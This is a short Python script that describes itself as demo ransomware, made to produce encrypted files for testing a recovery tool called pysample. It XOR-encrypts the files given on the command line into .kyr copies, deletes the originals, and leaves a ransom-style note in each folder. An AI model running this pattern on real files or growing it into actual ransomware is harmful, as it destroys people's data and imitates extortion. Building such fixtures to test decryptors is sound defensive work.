"""The sample ransomware: encrypts files for the demo so that pysample can restore them.

Usage: python3 encrypt_demo_files.py <key> <file>...   (each <file> becomes <file>.kyr)
Like real ransomware it leaves a note, KYR_README.txt, in every folder it touched.
"""
import os
import sys

NOTE_NAME = "KYR_README.txt"
NOTE = ("Your files were locked by the KyrSample demo ransomware (*.kyr).\n"
        "Restore them with: kyrdecrypt -get pysample\n")


def main():
    if len(sys.argv) < 3:
        sys.exit("usage: encrypt_demo_files.py <key> <file>...")
    key = sys.argv[1].encode("utf-8")
    folders = set()
    for path in sys.argv[2:]:
        with open(path, "rb") as source:
            data = source.read()
        count = 16 - len(data) % 16
        data += bytes([count]) * count
        with open(path + ".kyr", "wb") as out:
            out.write(bytes(b ^ key[i % len(key)] for i, b in enumerate(data)))
        os.remove(path)
        folders.add(os.path.dirname(os.path.abspath(path)))
        print("Encrypted " + path + ".kyr")
    for folder in sorted(folders):
        with open(os.path.join(folder, NOTE_NAME), "w", encoding="utf-8") as note:
            note.write(NOTE)


if __name__ == "__main__":
    main()
